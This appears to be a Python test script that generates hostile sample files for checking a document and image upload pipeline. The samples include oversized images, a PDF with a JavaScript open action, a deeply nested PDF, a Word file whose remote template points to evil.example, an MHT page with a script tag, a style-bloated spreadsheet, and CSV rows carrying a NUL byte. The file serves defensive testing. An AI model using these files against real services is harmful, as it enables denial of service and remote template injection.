"""The files of the list of attacks in docs/operating.md: `python -m tests.attack_files FOLDER` writes them there."""

import io
import sys
from pathlib import Path

from pikepdf import Array, Name
from PIL import Image

from tests.document_files import office, opening, pdf
from tests.hostile_files import LARGE_WEBP, flat_png, with_styles

#: A list of cities with a new row: NUL in a text, and 30 digits where a number is asked for.
CITIES = (("cities.city", "slug", "name_fr", "latitude"), ("", "", "", ""), ("", "attack", "A\0B", "1" * 30))


def sheet():
    """The same rows in a spreadsheet, which can't hold NUL."""
    from openpyxl import Workbook

    book, out = Workbook(), io.BytesIO()
    for row in CITIES:
        book.active.append([cell.replace("\0", "") for cell in row])
    book.save(out)
    return out.getvalue()


def strip():
    out = io.BytesIO()
    Image.new("RGB", (2560, 1), "navy").save(out, "JPEG")
    return out.getvalue()


FILES = {
    "strip.jpg": strip,
    "49-megapixels.png": lambda: flat_png(7000, 7000, channels=4),
    "49-megapixels.webp": lambda: LARGE_WEBP,
    "javascript.pdf": lambda: opening(S=Name.JavaScript, JS="app.alert(1)"),
    "many-lists.pdf": lambda: pdf(lambda document: document.Root.update({"/X": Array([Array([0])] * 10**5)})),
    "template.docx": lambda: office(related=[("attachedTemplate", "https://evil.example/a.dotm", "External")]),
    "page.mht": lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n",
    "styles.xlsx": lambda: with_styles(1_500_000),
    "numbers.csv": lambda: "\r\n".join(";".join(row) for row in CITIES).encode(),
    "numbers.xlsx": sheet,
}


def main(folder):
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in FILES.items():
        (folder / name).write_bytes(make())


if __name__ == "__main__":
    main(Path(sys.argv[1]))
